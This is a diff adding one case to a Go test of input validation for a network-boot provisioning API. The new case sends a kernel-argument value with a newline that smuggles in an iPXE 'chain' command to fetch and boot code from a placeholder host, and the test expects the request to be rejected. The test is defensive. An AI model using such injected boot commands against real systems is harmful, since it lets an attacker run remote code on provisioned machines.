@@ -377,6 +377,7 @@ func TestOperatorCarelessInputs(t *testing.T) {
 		{"reservation on the broadcast address", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"52:54:00:0a:00:03","pod":"op-b","provisioningIp":"192.0.2.255"}]}`), 400, "broadcast address"},
 		{"broadcast MAC", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"ff:ff:ff:ff:ff:ff","pod":"op-b"}]}`), 400, "broadcast address"},
 		{"hostname in a batch twice", "POST", "/api/v1/hosts", []byte(`{"hosts":[{"mac":"52:54:00:0a:00:03","pod":"op-b","hostname":"n3"},{"mac":"52:54:00:0a:00:04","pod":"op-b","hostname":"N3"}]}`), 409, "hostname N3"},
+		{"kernel arguments inject an iPXE command", "POST", "/api/v1/profiles", []byte(`{"name":"op-p","kernelArgs":"console=ttyS0\nchain http://192.0.2.66/x"}`), 400, "must be one line"},
 		{"token name taken", "POST", "/api/v1/tokens", []byte(`{"name":"admin","role":"viewer"}`), 409, "a token named admin exists"},
 		{"grants on a viewer token", "POST", "/api/v1/tokens", []byte(`{"name":"v","role":"viewer","allowKinds":["stage2"]}`), 400, "only a ci token"},
 		{"grant of an unknown kind", "POST", "/api/v1/tokens", []byte(`{"name":"c","role":"ci","allowKinds":["rootkit"]}`), 400, "use bootloader, kernel, initrd, stage2, package"},
